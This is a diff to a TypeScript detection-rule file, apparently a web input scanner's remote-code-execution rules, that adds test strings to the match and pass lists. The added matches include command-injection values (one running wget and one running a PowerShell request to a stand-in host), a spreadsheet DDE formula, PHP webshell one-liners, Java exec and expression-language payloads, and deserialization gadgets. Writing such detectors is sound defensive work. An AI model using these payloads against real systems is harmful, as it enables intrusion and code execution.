@@ -11,6 +11,12 @@ export const RCE_RULES: readonly ValueRule[] = [
     description: "a command of a shell behind a separator",
     sign: Sign.ShellCommand,
     matches: [
+      "1;cd /tmp;wget http://x.test/a",
+      "1;ps aux",
+      "1;eval id",
+      "& powershell Invoke-WebRequest http://x.test",
+      "1;wh^oami",
+      "1;ifconfig eth0",
       ";id",
       "127.0.0.1;cat /etc/passwd",
       "a|whoami",
@@ -33,6 +39,9 @@ export const RCE_RULES: readonly ValueRule[] = [
       "x,%0awhoami",
     ],
     passes: [
+      "He left (at 5; top 10 shown)",
+      "1. cd /tmp; 2. ls",
+      '[json] {"a":"java.lang.Error\\n\\tat a.b.C(D.java:1)"}',
       "cats; dogs",
       "tips & more",
       "name;id",
@@ -87,6 +96,8 @@ export const RCE_RULES: readonly ValueRule[] = [
     description: "what only attacks write for shells",
     sign: Sign.ShellIdiom,
     matches: [
+      "=cmd|' /C calc'!A0",
+      "/bin/c?? /etc/passwd",
       "cat${IFS}/etc/passwd",
       "x>/dev/tcp/1.2.3.4/80",
       "bash -i >& x",
@@ -119,6 +130,8 @@ export const RCE_RULES: readonly ValueRule[] = [
     description: "a call of PHP that runs programs, or a setting that lets them in",
     sign: Sign.PhpCode,
     matches: [
+      "<?=`$_GET[1]`?>",
+      'call_user_func_array("exec",$_REQUEST)',
       "<?php system('id'); ?>",
       ";phpinfo();",
       "assert($_GET[x])",
@@ -162,6 +175,11 @@ export const RCE_RULES: readonly ValueRule[] = [
     description: "Java that an expression language or an unpacker would run",
     sign: Sign.JavaCode,
     matches: [
+      "${#a=1}",
+      "${dns:address|x.test}",
+      "(@java.lang.Runtime@getRuntime().exec(#a))",
+      "new java.lang.ProcessBuilder({'id'}).start()",
+      '[json] ["org.springframework.context.support.X",1]',
       "%{(#a=@java.lang.Runtime@getRuntime()).exec('id')}",
       "${T(java.lang.Runtime).getRuntime().exec('id')}",
       "T(java.lang.Runtime)",
@@ -177,6 +195,9 @@ export const RCE_RULES: readonly ValueRule[] = [
       '[json] {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
     ],
     passes: [
+      "${dns:-8.8.8.8}",
+      "${#strings.isEmpty(a)}",
+      '[json] ["com.example.Foo"]',
       "java.lang.Runtime",
       "Runtime.getRuntime().exec example",
       "class loader",
@@ -197,6 +218,8 @@ export const RCE_RULES: readonly ValueRule[] = [
     description: "Python, Ruby or Node that leads to the system, and expressions that try a template",
     sign: Sign.ScriptCode,
     matches: [
+      "process.binding('spawn_sync')",
+      "{{= 7*7 }}",
       "{{7*7}}",
       "${7*7}",
       "<%= 7*7 %>",
@@ -235,6 +258,8 @@ export const RCE_RULES: readonly ValueRule[] = [
     description: "a packed object of Java, .NET, PHP, Python or Node",
     sign: Sign.SerializedObject,
     matches: [
+      "a: !!python/name:os.system",
+      "--- !ruby/object:X",
       "rO0ABXNyABdqYXZh",
       "aced00057372",
       'O:8:"stdClass":1:{s:1:"a";i:1;}',
@@ -246,6 +271,7 @@ export const RCE_RULES: readonly ValueRule[] = [
       "a: !!python/object/new:x",
     ],
     passes: [
+      "!ruby is a gem",
       "eyJhbGciOiJIUzI1NiJ9.e30.x",
       'a:1:{s:1:"a";i:1;}',
       "ratio:16:9",
@@ -261,12 +287,19 @@ export const RCE_RULES: readonly ValueRule[] = [
     description: "a name that reaches the prototype of all objects",
     sign: Sign.PrototypePollution,
     matches: [
+      '[json] {"constructor":{"prototype":{"x":1}}}',
       "[?] __proto__[admin]=1",
       "[?] a[constructor][prototype][x]=1",
       '[json] {"__proto__":{"x":1}}',
       '{"a":{"__proto__":{}}}',
     ],
-    passes: ["__proto__ in JavaScript", "[?] prototype=1", '[json] {"prototype":"v2"}', "constructor.prototype"],
+    passes: [
+      '[json] {"prototype":{"constructor":"x"}}',
+      "__proto__ in JavaScript",
+      "[?] prototype=1",
+      '[json] {"prototype":"v2"}',
+      "constructor.prototype",
+    ],
   },
   {
     id: "RCE-012",
